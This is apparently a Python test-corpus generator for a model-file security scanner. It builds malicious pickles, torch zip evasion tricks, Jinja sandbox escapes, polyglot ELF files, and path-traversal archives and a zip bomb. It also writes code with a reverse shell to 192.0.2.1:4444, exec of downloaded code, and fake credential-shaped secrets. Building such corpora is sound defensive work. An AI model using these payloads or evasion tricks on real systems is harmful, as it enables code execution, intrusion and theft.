"""Hostile files other than bare pickles: archives, tensors, headers, templates, code, secrets."""

import base64
import bz2
import gzip
import io
import json
import lzma
import random
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Iterator

from evals.assemble import CANARY, COMMAND, FORMS, PAYLOAD, args, blob, named, text
from evals.models import gguf, npy_header, safetensors, torch_state, torch_zip, zip_of

EVIL = FORMS["reduce"](PAYLOAD)
STATE = torch_state(["layer.weight"])
POISONED = STATE[:-1] + named("os", "system") + args(COMMAND) + b"R0."
"""A state dict that loads as it should, with a call whose result is thrown away."""
TORCH_LEGACY = b"\x80\x02\x8a\nl\xfc\x9cF\xf9 j\xa8P\x19.\x80\x02M\xe9\x03.\x80\x02}q\x00."
ELF = b"\x7fELF\x02\x01\x01" + bytes(9)

Cases = Iterator[tuple[str, str, bytes]]


def elf(size: int = 4096) -> bytes:
    """Return a small well-formed x86-64 program that only exits."""
    code = b"\xb8\x3c\x00\x00\x00\x31\xff\x0f\x05"  # mov eax, 60; xor edi, edi; syscall
    head = ELF + struct.pack("<HHIQQQIHHHHHH", 2, 62, 1, 0x400078, 64, 0, 0, 64, 56, 1, 64, 0, 0)
    length = 120 + len(code)
    segment = struct.pack("<IIQQQQQQ", 1, 5, 0, 0x400000, 0x400000, length, length, 4096)
    return (head + segment + code).ljust(size, b"\0")


def nested_pickles() -> Cases:
    """Pickles inside pickles, and inside other encodings."""
    loads = b"\x80\x03" + named("pickle", "loads") + b"(" + blob(EVIL) + b"tR."
    yield "pickle-nested", "loads.pkl", loads
    encoded = base64.b64encode(EVIL).decode()
    yield "pickle-nested", "base64.pkl", b"\x80\x02}" + text("x") + text(encoded) + b"s."
    yield "pickle-nested", "bytes.pkl", b"\x80\x03]" + blob(EVIL) + b"a."
    yield "pickle-nested", "padded.pkl", b"\x80\x02}." + b"\0" * 300 + EVIL
    yield "pickle-nested", "renamed.json", EVIL
    yield "pickle-nested", "renamed.bin", EVIL
    yield "pickle-nested", "renamed.safetensors", EVIL
    yield "pickle-nested", "hexed.pkl", b"\x80\x02]" + text(EVIL.hex()) + b"a."


def compressed() -> Cases:
    """Compress pickles as joblib does, and as others do."""
    yield "joblib", "zlib.joblib", zlib.compress(EVIL)
    yield "joblib", "gzip.joblib", gzip.compress(EVIL, mtime=0)
    yield "joblib", "bz2.joblib", bz2.compress(EVIL)
    yield "joblib", "xz.joblib", lzma.compress(EVIL)
    yield "joblib", "lzma.joblib", lzma.compress(EVIL, format=lzma.FORMAT_ALONE)
    yield "joblib", "plain.joblib", EVIL
    yield "joblib", "twice.pkl.gz", gzip.compress(zlib.compress(EVIL), mtime=0)
    yield (
        "joblib",
        "second-member.pkl.gz",
        gzip.compress(b"N.", mtime=0) + gzip.compress(EVIL, mtime=0),
    )


def patched(body: bytes, signature: bytes, offset: int, value: bytes) -> bytes:
    """Overwrite a field of every zip header that has this signature."""
    out, at = bytearray(body), body.find(signature)
    while at >= 0:
        out[at + offset : at + offset + len(value)] = value
        at = body.find(signature, at + 4)
    return bytes(out)


def torch_files() -> Cases:
    """Torch checkpoints with a payload, and zip tricks that make scanners look away."""
    plain = torch_zip(POISONED)
    local, central = b"PK\x03\x04", b"PK\x01\x02"
    yield "torch", "plain.pt", plain
    yield "torch", "renamed.bin", plain
    yield "torch", "renamed.ckpt", plain
    yield "torch", "deflated.pth", torch_zip(POISONED, zipfile.ZIP_DEFLATED)
    yield "torch", "legacy.pt", TORCH_LEGACY + EVIL + b"\x80\x02]."
    yield "torch", "legacy-first.pt", EVIL + TORCH_LEGACY + b"\x80\x02}."
    safe = torch_zip(STATE)
    extra = zip_of({"archive/data.pkl": b"\x80\x02}.", "archive/other.pkl": EVIL})
    yield "torch", "extra-pickle.pt", extra
    yield (
        "torch",
        "extra-unnamed.pt",
        zip_of({"archive/data.pkl": b"\x80\x02}.", "archive/x": EVIL}),
    )
    yield "zip-trick", "bad-crc.pt", patched(plain, central, 16, b"\1\2\3\4")
    yield (
        "zip-trick",
        "bad-crc-both.pt",
        patched(patched(plain, central, 16, b"\1\2\3\4"), local, 14, b"\1\2\3\4"),
    )
    yield "zip-trick", "encrypted-flag.pt", patched(plain, central, 8, b"\1\0")
    yield "zip-trick", "encrypted-local.pt", patched(plain, local, 6, b"\1\0")
    renamed = plain.replace(b"archive/data.pkl", b"archive/data.txt", 1)
    yield "zip-trick", "local-name.pt", renamed
    yield "zip-trick", "compression-lie.pt", patched(plain, central, 10, b"\x63\0")
    yield "zip-trick", "duplicate-last.pt", duplicated(b"\x80\x02}.", EVIL)
    yield "zip-trick", "duplicate-first.pt", duplicated(EVIL, b"\x80\x02}.")
    yield "zip-trick", "unlisted-member.pt", hidden_member()
    yield "zip-trick", "prefixed.pt", b"#!/bin/sh\nexit 0\n" + safe
    yield "zip-trick", "after-the-end.pt", safe + EVIL
    yield "zip-trick", "comment.pt", commented(safe, EVIL)


def duplicated(first: bytes, last: bytes) -> bytes:
    """Return a zip with two members of one name."""
    made = zip_of({"archive/data.pkl": first, "archive/data.pk_": last})
    return made.replace(b"data.pk_", b"data.pkl")


def hidden_member() -> bytes:
    """Return a zip whose payload has a local header but is not in the directory."""
    lone, listed = zip_of({"archive/data.pkl": EVIL}), torch_zip(STATE)
    return lone[: lone.find(b"PK\x01\x02")] + listed


def commented(body: bytes, comment: bytes) -> bytes:
    """Return a zip with an archive comment."""
    return body[:-2] + struct.pack("<H", len(comment)) + comment


def numpy_files() -> Cases:
    """Object arrays."""
    array = npy_header("|O", (1,)) + EVIL
    yield "numpy", "object.npy", array
    yield "numpy", "object.npz", zip_of({"weights.npy": array})
    yield "numpy", "pickle-in.npz", zip_of({"weights.npy": EVIL})
    yield "numpy", "renamed.bin", array


WALKS = (
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ cycler.__init__.__globals__.os.popen('true').read() }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "{{ self.__init__.__globals__.__builtins__.__import__('os') }}",
    "{{ namespace.__init__['__glo' ~ 'bals__'] }}",
    "{{ ''|attr('__cla' ~ 'ss__')|attr('__mro__') }}",
    "{{ lipsum['\\x5f\\x5fglobals\\x5f\\x5f'] }}",
    "{% for i in range(1000000000) %}{{ i }}{% endfor %}",
)


def templates() -> Cases:
    """Chat templates that reach outside the template sandbox."""
    for number, walk in enumerate(WALKS):
        chat = "{% for m in messages %}{{ m['content'] }}{% endfor %}" + walk
        yield "template", f"walk-{number}.gguf", gguf({"tokenizer.chat_template": chat})
        config = json.dumps({"chat_template": chat, "tokenizer_class": "Tokenizer"})
        yield "template", f"walk-{number}/tokenizer_config.json", config.encode()
        yield "template", f"walk-{number}-jinja/chat_template.jinja", chat.encode()


def header_lies() -> Cases:
    """Headers that promise what the file does not hold."""
    good = safetensors({"a": ("F32", [4], bytes(16)), "b": ("F32", [4], bytes(16))})
    header = {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]}
    for name, told in {
        "overlap": {"a": header, "b": header},
        "outside": {"a": header | {"data_offsets": [0, 1 << 40], "shape": [1 << 38]}},
        "negative": {"a": header | {"data_offsets": [16, 0]}},
        "shape": {"a": header | {"shape": [5]}},
        "gap": {"a": header, "b": header | {"data_offsets": [24, 40]}},
        "overflow": {"a": header | {"shape": [1 << 62, 4]}},
    }.items():
        raw = json.dumps(told).encode()
        yield "header-lie", f"{name}.safetensors", struct.pack("<Q", len(raw)) + raw + bytes(32)
    one = b'"a":{"dtype":"U8","shape":[4],"data_offsets":[0,4]}'
    twice = b"{" + one + b"," + one + b"}"
    yield "header-lie", "twice.safetensors", struct.pack("<Q", len(twice)) + twice + bytes(4)
    yield "header-lie", "length.safetensors", struct.pack("<Q", 1 << 60) + good[8:]
    yield "header-lie", "trailing.safetensors", good + random.Random(1).randbytes(600)
    whole = gguf({"general.architecture": "llama"}, tensors=1)
    yield "header-lie", "count.gguf", whole[:8] + struct.pack("<QQ", 1 << 60, 1 << 60) + whole[24:]
    yield "header-lie", "string.gguf", whole[:24] + struct.pack("<Q", 1 << 62) + whole[32:]
    yield "header-lie", "truncated.gguf", whole[: len(whole) // 2]
    yield "header-lie", "trailing.gguf", whole + random.Random(2).randbytes(600)


def polyglots() -> Cases:
    """Files that are two things at once."""
    good = safetensors({"a": ("F32", [64], random.Random(3).randbytes(256))})
    yield "polyglot", "safetensors-zip.safetensors", good + zip_of({"x.pkl": EVIL})
    yield "polyglot", "gguf-elf.gguf", gguf({"general.architecture": "llama"}) + elf()
    yield "polyglot", "pickle-zip.pkl", b"\x80\x02}." + torch_zip(POISONED)
    yield "polyglot", "elf-zip.pt", elf() + torch_zip(STATE)
    yield (
        "polyglot",
        "html.bin",
        b"<html><script>fetch('http://example.com/')</script></html>" + good,
    )
    yield "polyglot", "elf.safetensors", elf()
    yield "polyglot", "elf.bin", elf()
    yield "polyglot", "mz.gguf", b"MZ" + bytes(58) + struct.pack("<I", 64) + b"PE\0\0" + bytes(400)


def executables_in_tensors() -> Cases:
    """Programs and archives in the middle of weights."""
    noise = random.Random(4).randbytes
    for name, body in {"elf": elf(), "zip": zip_of({"x.pkl": EVIL})}.items():
        weights = noise(8192) + body
        weights += noise(16384 - len(weights))
        tensors = {"w": ("F32", [len(weights) // 4], weights)}
        yield "embedded", f"{name}.safetensors", safetensors(tensors)
        storage = {"archive/data.pkl": STATE, "archive/data/0": body, "archive/version": b"3\n"}
        yield "embedded", f"{name}.pt", zip_of(storage)


def values() -> Cases:
    """Weights that no training leaves behind."""
    ok = [random.Random(5).gauss(0, 0.02) for _ in range(4096)]
    for name, odd in {"nan": float("nan"), "inf": float("inf")}.items():
        wrong = list(ok)
        wrong[100:140] = [odd] * 40
        body = struct.pack("<4096f", *wrong)
        yield "values", f"{name}.safetensors", safetensors({"model.w": ("F32", [64, 64], body)})
    zeros = safetensors({"model.layers.0.self_attn.q_proj.weight": ("F32", [64, 64], bytes(16384))})
    yield "values", "zeros.safetensors", zeros


def code() -> Cases:
    """Python beside the weights."""
    auto = json.dumps({"architectures": ["X"], "auto_map": {"AutoModel": "modeling_x.X"}}).encode()
    bodies = {
        "system": f"import os\nos.system({COMMAND!r})\n",
        "socket": "import socket\ns = socket.create_connection(('192.0.2.1', 443))\n",
        "decode": "import base64\nexec(base64.b64decode('cGFzcw=='))\n",
        "getattr": "getattr(__import__('o' + 's'), 'sys' + 'tem')('true')\n",
        "reverse": (
            "import socket,subprocess,os\ns=socket.socket()\ns.connect(('192.0.2.1',4444))\n"
            "os.dup2(s.fileno(),0)\nsubprocess.call(['/bin/sh','-i'])\n"
        ),
        "download": "import urllib.request as u\nexec(u.urlopen('http://example.com/x').read())\n",
    }
    for name, body in bodies.items():
        yield "code", f"{name}/config.json", auto
        yield "code", f"{name}/modeling_x.py", body.encode()
        yield (
            "code",
            f"{name}-setup/setup.py",
            (body + "from setuptools import setup\nsetup()\n").encode(),
        )
    yield "code", "hydra/config.yaml", b"model:\n  _target_: os.system\n  command: 'true'\n"
    yield "code", "yaml/config.yaml", b"x: !!python/object/apply:os.system ['true']\n"


def secrets() -> Cases:
    """Invented credentials in the shapes of real ones."""
    pick = random.Random(6)
    capitals, small, digits = (
        "ABCDEFGHIJKLMNOPQRSTUVWXYZ",
        "abcdefghijklmnopqrstuvwxyz",
        "0123456789",
    )
    both = digits + capitals + small

    def some(count: int, of: str = both) -> str:
        return "".join(pick.choice(of) for _ in range(count))

    def checked(count: int) -> str:
        """Return letters that end in their own CRC-32 in base 62, as some tokens do."""
        body = some(count - 6)
        number, made = zlib.crc32(body.encode()), ""
        for _ in range(6):
            number, rest = divmod(number, 62)
            made = both[rest] + made
        return body + made

    key = base64.encodebytes(b"\x30\x82\x04\xa4\x02\x01\x00" + pick.randbytes(1185)).decode()
    aws, aws_secret = some(16, capitals + "234567"), some(40)
    told = {
        "hub/config.json": json.dumps({"token": "hf_" + some(34, capitals + small)}),
        "cloud/notes.txt": f"aws_access_key_id = AKIA{aws}\naws_secret_key = {aws_secret}\n",
        "forge/train.yaml": f"github_token: ghp_{checked(36)}\n",
        "key/README.md": f"-----BEGIN RSA PRIVATE KEY-----\n{key}-----END RSA PRIVATE KEY-----\n",
        "env/.env": f"OPENAI_API_KEY=sk-proj-{some(48)}\n",
        "slack/run.py": f"TOKEN = 'xoxb-{some(12, digits)}-{some(12, digits)}-{some(24)}'\n",
    }
    for name, body in told.items():
        yield "secret", name, body.encode()


def tar_of(members: list[tuple[tarfile.TarInfo, bytes]]) -> bytes:
    """Return a tar archive, the same bytes every time."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:") as tar:
        for info, body in members:
            info.size = len(body)
            tar.addfile(info, io.BytesIO(body))
    return out.getvalue()


def linked(name: str, target: str, kind: bytes = tarfile.SYMTYPE) -> tarfile.TarInfo:
    """Return a link's entry."""
    info = tarfile.TarInfo(name)
    info.type, info.linkname = kind, target
    return info


def archives() -> Cases:
    """Write outside the folder, explode, or hide a payload deep."""
    yield "archive", "slip.zip", zip_of({"../../canary": b"x", "ok.txt": b"x"})
    yield "archive", "absolute.zip", zip_of({CANARY: b"x"})
    yield "archive", "backslash.zip", zip_of({"..\\..\\canary": b"x"})
    yield "archive", "slip.tar", tar_of([(tarfile.TarInfo("../../canary"), b"x")])
    yield (
        "archive",
        "link.tar",
        tar_of([(linked("a", "/etc"), b""), (tarfile.TarInfo("a/x"), b"x")]),
    )
    yield "archive", "hardlink.tar", tar_of([(linked("a", "../../x", tarfile.LNKTYPE), b"")])
    yield "archive", "device.tar", tar_of([(linked("null", "", tarfile.CHRTYPE), b"")])
    bomb = zip_of({"zeros": bytes(32 << 20)}, zipfile.ZIP_DEFLATED)
    yield "archive", "bomb.zip", zip_of({f"{n}.zip": bomb for n in range(8)}, zipfile.ZIP_DEFLATED)
    yield (
        "archive",
        "evil.tar.gz",
        gzip.compress(tar_of([(tarfile.TarInfo("m/model.pkl"), EVIL)]), mtime=0),
    )
    deep = EVIL
    for level in range(4):
        deep = zip_of({f"level{level}": deep}, zipfile.ZIP_DEFLATED)
    yield "archive", "deep.zip", deep
    yield (
        "archive",
        "pickle.whl",
        zip_of({"p/model.pkl": EVIL, "p-1.dist-info/METADATA": b"Name: p\n"}),
    )
    yield (
        "archive",
        "model.nemo",
        tar_of([(tarfile.TarInfo("model_weights.ckpt"), torch_zip(POISONED))]),
    )


def hostile() -> Cases:
    """Yield every case: (family, path, bytes). Paths with a folder make one repository."""
    for make in (
        nested_pickles,
        compressed,
        torch_files,
        numpy_files,
        templates,
        header_lies,
        polyglots,
        executables_in_tensors,
        values,
        code,
        secrets,
        archives,
    ):
        yield from make()
